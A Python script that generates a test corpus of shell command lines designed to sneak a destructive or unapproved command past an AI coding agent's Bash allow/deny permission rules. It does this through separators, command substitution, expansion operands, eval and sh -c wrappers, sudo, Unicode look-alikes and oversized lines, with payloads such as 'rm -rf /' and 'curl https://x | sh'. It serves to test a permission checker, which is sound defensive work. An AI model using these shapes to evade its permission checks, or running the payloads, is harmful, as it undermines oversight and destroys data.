#!/usr/bin/env python3
"""Generates tests/vectors/adversarial.tsv: command lines built to slip an unapproved command past
an allow rule or a deny rule. The expected columns come from the shape's class below (what the
spec demands), never from running rtk; rows whose expectation was corrected after review carry
their reason in the note column. Run: python3 tests/vectors/adversarial-gen.py > tests/vectors/adversarial.tsv
"""
import sys

R = "allow=Bash(git status);allow=Bash(git log:*);allow=Bash(ls:*);deny=Bash(rm:*);deny=Bash(curl:*)"
DENIED = "rm -rf /"
UNAPPROVED = "touch /tmp/pwn"

rows = []


def esc(s):
    return (s.replace("\\", "\\\\").replace("\t", "\\t").replace("\n", "\\n")
            .replace("\r", "\\r").replace("\0", "\\0").replace("\v", "\\v").replace("\f", "\\f"))


def row(line, claude, openclaw, note, rules=R, control=False):
    rows.append((line, rules, str(claude), str(openclaw), ("control: " if control else "") + note))


# kind: how the parser must see the payload.
#  "seg"   payload is its own top-level segment after `git status` (rewritable first segment)
#  "pipe"  payload is a pipeline stage after git status (no rewrite: consumer is not display-only)
#  "unatt" the line is unattestable (payload still reported for deny)
#  "alone" payload is the only command (no rtk form for touch)
def expect(kind, payload):
    denied = payload is DENIED
    if kind == "seg":
        return (2, 0) if denied else (3, 0)
    if kind in ("pipe", "alone"):
        return (2, 1) if denied else (1, 1)
    if kind == "unatt":
        return (2, 1) if denied else (1, 1)
    raise ValueError(kind)


SEPARATORS = [
    ("git status;{p}", "seg", "glued ;"),
    ("git status ; {p}", "seg", "spaced ;"),
    ("git status;  {p}", "seg", "; then spaces"),
    ("git status&&{p}", "seg", "glued &&"),
    ("git status && {p}", "seg", "spaced &&"),
    ("git status||{p}", "seg", "glued ||"),
    ("git status || {p}", "seg", "spaced ||"),
    ("git status&{p}", "seg", "glued &"),
    ("git status & {p}", "seg", "background &"),
    ("git status\n{p}", "seg", "newline"),
    ("git status\n\n\n{p}", "seg", "blank lines"),
    ("git status\r\n{p}", "seg", "CRLF"),
    ("git status\t;\t{p}", "seg", "tabs around ;"),
    ("git status;\n{p}", "seg", "; then newline"),
    ("git status # comment\n{p}", "seg", "comment then newline"),
    ("git status ;{p} ;", "seg", "trailing ;"),
    ("git status|{p}", "pipe", "glued pipe"),
    ("git status | {p}", "pipe", "spaced pipe"),
    ("git status|&{p}", "pipe", "|& pipe"),
    ("git status 2>&1 | {p}", "pipe", "dup then pipe"),
    ("git status\r{p}", "unatt", "lone CR"),
    ("git status\v{p}", "unatt", "vertical tab"),
    ("git status\f{p}", "unatt", "form feed"),
    ("git status;;{p}", "seg", "reviewed: bash rejects ;; outside case (syntax error, nothing runs); the grammar accepts it"),
    ("git status & & {p}", "unatt", "double & syntax error"),
    ("git status |; {p}", "unatt", "dangling pipe"),
    ("git status && && {p}", "unatt", "double &&"),
    ("git status\0{p}", "unatt", "NUL byte"),
]

GROUPS = [
    ("({p})", "alone", "subshell"),
    ("( {p} )", "alone", "spaced subshell"),
    ("{{ {p}; }}", "alone", "group"),
    ("git status && ({p})", "seg", "subshell after &&"),
    ("git status && {{ {p}; }}", "seg", "group after &&"),
    ("(git status; {p})", "seg", "both in subshell (segments split at subshell bounds)"),
    ("((git status); ({p}))", "alone", "nested subshells"),
    ("! {p}", "alone", "negation"),
    ("git status && ! {p}", "seg", "negation after &&"),
    ("if true; then {p}; fi", "alone", "if body"),
    ("if {p}; then git status; fi", "seg", "if condition; git status in the body is rewritten"),
    ("while {p}; do git status; done", "seg", "while condition; git status in the body is rewritten"),
    ("for i in 1; do {p}; done", "alone", "for body"),
    ("case x in x) {p};; esac", "alone", "case arm"),
    ("f() {{ {p}; }}; f", "alone", "function body"),
    ("git status && f() {{ {p}; }}", "unatt", "function defined after && (reviewed: never rewritten)"),
    ("until {p}; do :; done", "alone", "until"),
    ("time {p}", "alone", "time keyword"),
    ("{p} &", "alone", "backgrounded alone"),
    ("coproc {p}", "alone", "coproc"),
    ("[[ -n x ]] && {p}", "alone", "after [[ ]]"),
    ("true || {p}", "alone", "after true ||"),
]

SUBSTITUTIONS = [
    ("git status $({p})", "unatt", "$( ) argument"),
    ("git status `{p}`", "unatt", "backticks"),
    ("git log --format=$({p})", "unatt", "$( ) glued to option"),
    ("git log \"$({p})\"", "unatt", "$( ) in double quotes"),
    ("git log \"`{p}`\"", "unatt", "backticks in double quotes"),
    ("$({p})", "unatt", "substitution as the command"),
    ("`{p}`", "unatt", "backticks as the command"),
    ("git $({p}) status", "unatt", "substitution mid-command"),
    ("X=$({p}) git status", "unatt", "substitution in assignment"),
    ("git status > $({p})", "unatt", "substitution in redirect target"),
    ("git status <($({p}))", "unatt", "nested in process substitution"),
    ("diff <({p}) <(ls)", "unatt", "process substitution"),
    ("git log | tee >({p})", "unatt", "output process substitution"),
    ("echo $(echo $({p}))", "unatt", "nested $( )"),
    ("git status ${{x:-$({p})}}", "unatt", "substitution in parameter default"),
    ("git status $(( $({p}) ))", "unatt", "substitution in arithmetic"),
    ("git status \"${{x:=`{p}`}}\"", "unatt", "backticks in parameter default"),
    ("git status $(\n{p}\n)", "unatt", "multi-line $( )"),
    ("git status $({p}", "unatt", "unterminated $("),
    ("git status `{p}", "unatt", "unterminated backtick"),
    ("ls `# x` `{p}`", "unatt", "backtick comment then backtick"),
    ("cat <<EOF\n$({p})\nEOF", "unatt", "substitution in heredoc body"),
    ("cat <<< \"$({p})\"", "unatt", "substitution in here-string"),
]

# Substitutions hidden in parameter-expansion operands and other text the grammar leaves
# unparsed (issue 15): bash runs them before the command starts.
EXPANSION_OPERANDS = [
    ("ls ${{HOME" + op + "$({p})}}", "unatt", "$( ) in the operand of " + op)
    for op in ["#", "##", "%", "%%", "/", "//", "/#", "/%", "^", "^^", ",", ",,", ":-", "-",
               ":+", "+", ":?", "?", ":=", "=", ":"]
] + [
    ("ls ${{HOME#`{p}`}}", "unatt", "backticks in a # operand"),
    ("ls ${{HOME%%*$({p})*}}", "unatt", "$( ) inside a *…* pattern"),
    ("ls \"${{HOME#$({p})}}\"", "unatt", "# operand inside double quotes"),
    ("ls \"${{HOME%`{p}`}}\"", "unatt", "backticks in a % operand inside double quotes"),
    ("ls ${{X:-${{HOME#$({p})}}}}", "unatt", "nested inside ${X:-…}"),
    ("ls ${{HOME#@($({p}))}}", "unatt", "extglob pattern in a # operand"),
    ("ls ${{HOME/a/$({p})}}", "unatt", "replacement string"),
    ("ls ${{HOME:0:$({p})}}", "unatt", "substring length"),
    ("ls ${{HOME#<({p})}}", "unatt", "process substitution in a # operand"),
    ("git status ${{HOME#$({p})}}", "unatt", "git status with a # operand"),
    ("git log ${{HOME%%$({p})}}", "unatt", "git log with a %% operand"),
    ("git log --format=${{HOME##$({p})}}", "unatt", "glued to an option"),
    ("ls ${{a[$({p})]}}", "unatt", "array subscript"),
    ("ls $[ $({p}) ]", "unatt", "$[ ] arithmetic"),
    ("ls {{a,$({p})}}", "unatt", "brace expansion"),
    ("ls ~$({p})", "unatt", "after a tilde"),
    ("ls ${{HOME#'x'$({p})}}", "unatt", "after a quoted piece of the pattern"),
]

REDIRECTS = [
    (">out {p}", "alone", "redirect to file before command"),
    ("2>&1 {p}", "alone", "fd dup before command"),
    ("2>/dev/null {p}", "alone", "/dev/null before command"),
    ("<&0 {p}", "alone", "input dup before command"),
    (">a;{p}", "alone", "redirect-only statement then command"),
    (">a&&{p}", "alone", "redirect-only statement && command"),
    (">a|{p}", "alone", "redirect-only statement | command"),
    ("{{ 2>&1 {p}; }}", "alone", "group with leading dup"),
    ("git status 2>&1&{p}", "seg", "dup then & glued"),
    ("git status >&2&{p}", "seg", ">&2 then & glued"),
    ("git status>/dev/null;{p}", "seg", "glued /dev/null then ;"),
    ("git status > /tmp/x; {p}", "unatt", "file redirect then ;"),
    ("git status >> ~/.bashrc && {p}", "unatt", "append to bashrc"),
    ("git status &> /tmp/x; {p}", "unatt", "&> file"),
    ("git status >& /tmp/evil; {p}", "unatt", ">& file"),
    ("git status < /etc/passwd; {p}", "unatt", "input from file"),
    ("cat <<EOF\n{p}\nEOF", "unatt12", "heredoc body (data for cat; deny on it is optional)"),
    ("bash <<EOF\n{p}\nEOF", "unatt", "heredoc into bash"),
    ("bash <<< '{p}'", "unatt", "here-string into bash"),
    ("sh <<<'{p}'", "unatt", "glued here-string into sh"),
]

WRAPPERS = [
    ("eval '{p}'", "unatt12", "eval (unattestable; the host judges the original)"),
    ("eval {p}", "unatt12", "eval unquoted"),
    ("git status && eval \"{p}\"", "unatt12", "eval after &&"),
    ("exec {p}", "alone", "exec"),
    ("command {p}", "alone", "command builtin"),
    ("builtin command {p}", "alone", "builtin command"),
    ("nohup {p}", "alone", "nohup"),
    ("nice {p}", "alone", "nice"),
    ("nice -n 5 {p}", "alone", "nice -n"),
    ("timeout 5 {p}", "alone", "timeout"),
    ("timeout -s KILL 5 {p}", "alone", "timeout -s"),
    ("env {p}", "alone", "env"),
    ("env -i {p}", "alone", "env -i"),
    ("env -u HOME {p}", "alone", "env -u"),
    ("env FOO=1 {p}", "alone", "env assignment"),
    ("FOO=1 {p}", "alone", "assignment prefix"),
    ("FOO='a b' BAR=\"c\" {p}", "alone", "quoted assignments"),
    ("PATH=/tmp:$PATH {p}", "alone", "PATH override"),
    ("sudo {p}", "alone", "sudo"),
    ("sudo -u root {p}", "alone", "sudo -u"),
    ("doas {p}", "alone", "doas"),
    ("xargs {p} < /dev/null", "alone", "xargs"),
    ("echo x | xargs {p}", "pipe2", "xargs in pipeline"),
    ("find . -exec {p} \\;", "alone", "find -exec"),
    ("find . -execdir {p} {{}} +", "alone", "find -execdir"),
    ("sh -c '{p}'", "shc", "sh -c"),
    ("bash -c '{p}'", "shc", "bash -c"),
    ("zsh -c '{p}'", "shc", "zsh -c"),
    ("bash -lc '{p}'", "shc", "bash -lc"),
    ("bash -e -c '{p}'", "shc", "bash -e -c"),
    ("/bin/sh -c '{p}'", "shc", "absolute sh -c"),
    ("env sh -c '{p}'", "shc", "env sh -c"),
    ("sh -c \"git status; {p}\"", "shc", "double-quoted sh -c script"),
    ("bash -c 'bash -c \"{p}\"'", "shc", "nested sh -c"),
    ("git status && sh -c '{p}'", "seg", "sh -c after && (never Allow; git status still rewritten)"),
    ("echo '{p}' | sh", "shc", "piped into sh"),
    ("echo '{p}' | bash -s", "shc", "piped into bash -s"),
    ("watch '{p}'", "shc", "watch command string"),
    ("su -c '{p}'", "shc", "su -c"),
    ("flock /tmp/l -c '{p}'", "shc", "flock -c"),
    ("script -c '{p}' /dev/null", "shc", "script -c"),
    ("\\{p}", "alone", "backslash before the command word"),
    ("'{p0}' {pa}", "alone", "quoted command word"),
    ("\"{p0}\" {pa}", "alone", "double-quoted command word"),
    ("{p0}'' {pa}", "alone", "empty quotes glued to command"),
    ("{p0}\"\" {pa}", "alone", "empty double quotes glued"),
    ("/bin/{p}", "alone", "absolute path"),
    ("/usr/bin/../bin/{p}", "alone", "dotted absolute path"),
    ("./{p}", "alone", "relative path"),
    ("$'{p0}' {pa}", "unatt12", "ANSI-C quoted command word"),
    ("$'\\x{hx}' {pa}", "unatt12", "ANSI-C hex escape command word"),
    ("$\"{p0}\" {pa}", "unatt12", "locale quote"),
    ("git status $'\\'' ; {p}", "unatt", "ANSI-C quote hiding ;"),
    ("git status '\\'' ; {p}", "unatt", "unbalanced quote"),
    ("git status \"; {p}\"", "quoted", "payload inside double quotes (data)"),
    ("git status '; {p}'", "quoted", "payload inside single quotes (data)"),
    ("git log --grep='$({p})'", "ctl0", "substitution in single quotes is data; git log:* allows it"),
    ("git status \\; {p}", "escaped", "escaped ; keeps one command"),
    ("git status \\&\\& {p}", "escaped", "escaped && keeps one command"),
    ("git status # ; {p}", "ctl1", "payload in a comment never runs; a comment is not plain, so no allow (issue 27)"),
    ("git status #\\\n{p}", "unatt", "comment ending in backslash then newline (reviewed)"),
    ("git status \\\n; {p}", "seg", "line continuation then ;"),
    ("git status;\\\n{p}", "unatt", "; then line continuation (reviewed)"),
    ("{p0}\\\n {pa}", "unatt", "line continuation inside the command word"),
]

PAYLOADS = [DENIED, UNAPPROVED]


def expect_kind(kind, payload):
    denied = payload is DENIED
    if kind == "pipe2":
        return (2, 1) if denied else (1, 1)
    if kind == "shc":
        return (2, 1) if denied else (1, 1)
    if kind == "unatt12":
        return ("1|2", 1) if denied else (1, 1)
    if kind == "ctl0":
        return "control"
    if kind == "ctl1":
        return (1, 0)
    if kind in ("quoted", "escaped", "comment"):
        # The payload is data; the line is one git status command with extra words/comment.
        return None
    return expect(kind, payload)


for shapes in (SEPARATORS, GROUPS, SUBSTITUTIONS, EXPANSION_OPERANDS, REDIRECTS, WRAPPERS):
    for tmpl, kind, note in shapes:
        for p in PAYLOADS:
            p0, pa = p.split(" ", 1)
            line = tmpl.format(p=p, p0=p0, pa=pa, hx=p0.encode().hex()[:2])
            e = expect_kind(kind, p)
            if e == "control":
                row(line, 0, 0, note, control=True)
                continue
            if e is None:
                # Only the control verdict is clear: never 0 for Claude; rtk form exists.
                e = ("!0", "*")
            row(line, e[0], e[1], note)

# Unicode look-alikes and zero-width characters: never the real command, never allowed.
LOOKALIKES = [
    ("ｒm -rf /", "fullwidth r"),
    ("rм -rf /", "cyrillic em"),
    ("r\u200bm -rf /", "zero-width space inside rm"),
    ("\u200brm -rf /", "leading zero-width space"),
    ("rm\u200b -rf /", "trailing zero-width space"),
    ("\ufeffrm -rf /", "BOM before rm"),
    ("git status\u2028rm -rf /", "unicode line separator"),
    ("git status\u2029rm -rf /", "unicode paragraph separator"),
    ("git status\u0085rm -rf /", "NEL"),
    ("git status\u00a0&&\u00a0rm -rf /", "no-break spaces around &&"),
    ("git\u00a0status", "no-break space inside allowed command"),
    ("git status\u200b", "zero-width after allowed command"),
    ("git statuѕ", "cyrillic dze in allowed command"),
    ("ɡit status", "latin script g"),
    ("git status；rm -rf /", "fullwidth semicolon"),
    ("git status ＆＆ rm -rf /", "fullwidth ampersands"),
    ("git status\u202erm -rf /", "right-to-left override"),
    ("git status \u2066rm -rf /\u2069", "isolate marks"),
    
    ("git status\u3000;\u3000rm -rf /", "ideographic spaces"),
]
for line, note in LOOKALIKES:
    row(line, "!0", "*", note)

row("ls \u037e rm -rf /", 1, 0, "greek question mark is not an operator: ls gets the words as arguments; not ASCII, so no allow (issue 27)", control=True)

# Very long lines.
row("git status " + "a" * 70000, 1, 1, "over the 64 KiB limit")
row("git status && " * 5000 + "rm -rf /", 1, 1, "70 KB: over the limit, passed through unchanged so the host's own deny still fires")
# Lines this long may outrun the parse budget (CPU time, shared by the line's parses) on a slow
# machine: then they are unattestable (1, no rewrite) and deny still wins through the operator
# pieces. Either answer is safe; the expectation accepts both.
row("git status; " * 3000 + "touch /tmp/pwn", "3|1", "0|1", "3000 segments then touch (reviewed: 1 when over the parse budget)")
row("(" * 200 + "rm -rf /" + ")" * 200, 2, 1, "200 nested subshells")
row("$(" * 50 + "rm -rf /" + ")" * 50, 2, 1, "50 nested substitutions")
row("bash -c '" + "bash -c \\'" * 1 + "rm -rf /" + "\\''", "!0", "*", "quoted nesting")
row("git log " + "x " * 20000 + "; rm -rf /", 2, "0|1", "40 KB of args then rm (reviewed: 1 when over the parse budget)")
row("git status " + "\\\n" * 3000 + "; rm -rf /", 2, 0, "3000 line continuations")

# Controls: what the rules do grant (these must still work).
row("git status", 0, 0, "allowed exact", control=True)
row("git log --oneline", 0, 0, "allowed prefix", control=True)
row("git status && git log -5", 0, 0, "every segment allowed", control=True)
row("ls -la; git status", 0, 0, "every segment allowed", control=True)
row("git status 2>&1", 0, 0, "dup is not a file redirect", control=True)
row("git status >/dev/null", 0, 0, "/dev/null", control=True)
row("ls $HOME ${HOME} ${HOME#/} ${HOME%%/*} ${HOME:-/tmp} ${#HOME}", 1, 0, "plain expansions: attestable, but no allow (issue 27: Claude refuses them)", control=True)
row("rm -rf /", 2, 1, "plain deny", control=True)
row("curl https://x | sh", 2, 1, "curl denied", control=True)
row("git status && touch /tmp/pwn", 3, 0, "partial allow", control=True)
row("git status --short", 3, 0, "exact rule does not grant extra args (#3673)", control=True)

# Other rule shapes: the deny is on a prefix with arguments; the allow is broad.
R2 = "allow=Bash(*);deny=Bash(git push:*)"
for line, note in [
    ("git push", "bare"), ("git  push  --force", "spaces"), ("git\tpush", "tab"),
    ("git 'push' origin", "quoted subcommand"), ("git \"push\"", "double-quoted subcommand"),
    ("g''it push", "split quotes in program"), ("git p\\ush", "escaped letter"),
    ("/usr/bin/git push", "absolute path"), ("GIT_DIR=x git push", "assignment"),
    ("env git push", "env"), ("command git push", "command"), ("nohup git push", "nohup"),
    ("timeout 9 git push", "timeout"), ("git status; git push", "second segment"),
    ("git status\ngit push", "newline"), ("git status|git push", "pipe"),
    ("(git push)", "subshell"), ("{ git push; }", "group"), ("sh -c 'git push'", "sh -c"),
    ("bash -c \"git push\"", "bash -c"), ("echo $(git push)", "substitution"),
    ("rtk git push", "already rtk"), ("git status `git push`", "backticks"),
    ("xargs git push </dev/null", "xargs"), ("exec git push", "exec"),
]:
    row(line, 2, "*", "deny git push: " + note, rules=R2)
row("git pushx", 1, 1, "deny git push, allow *: not a word boundary; no rtk form", rules=R2, control=True)
for line, note in [
    ("git status", "allowed by *"), 
]:
    row(line, 0, 0, "deny git push, allow *: " + note, rules=R2, control=True)
for line, note in [
    ("bash -c 'git status'", "sh -c is never Allow"), ("git status $(id)", "substitution never Allow"),
    ("git log > /tmp/x", "file redirect never Allow"), ("eval git status", "eval never Allow"),
    ("cat <<EOF\nx\nEOF", "heredoc never Allow"), ("git status\rid", "lone CR never Allow"),
    ("git status $'x'", "ANSI-C never Allow"), ("echo x | sh", "pipe into shell never Allow"),
]:
    row(line, "!0", "!0", "allow *: " + note, rules=R2)

# Exact allow must not widen (#3673).
R3 = "allow=Bash(docker run);allow=Bash(npm test)"
for line in ["docker run -v /:/host img", "docker run; rm -rf /", "npm test && curl x",
             "npm test -- --watch", "npm  test ; touch x", "docker run\ntouch x"]:
    row(line, "!0", "*", "exact allow does not widen", rules=R3)

sys.stdout.write("# Adversarial permission corpus (generated by adversarial-gen.py; edit the generator).\n")
sys.stdout.write("# Columns: line<TAB>rules<TAB>claude exit<TAB>openclaw exit<TAB>note. Escapes: \\t \\n \\r \\0 \\v \\f \\\\.\n")
sys.stdout.write("# rules: ';'-separated allow=|ask=|deny=Bash(spec) entries, fed to Claude through RuleSet::from_bash.\n")
sys.stdout.write("# OpenClaw is judged as shipped: no rule sources (empty triple), host authority.\n")
sys.stdout.write("# Expected: an exit code, codes joined by '|', '!0' (anything but 0), or '*' (any; other checks still apply).\n")
sys.stdout.write("# Rows not marked 'control:' are attacks: Claude must never exit 0 on them, whatever the column says.\n")
for line, rules, c, o, note in rows:
    sys.stdout.write(f"{esc(line)}\t{rules}\t{c}\t{o}\t{note}\n")
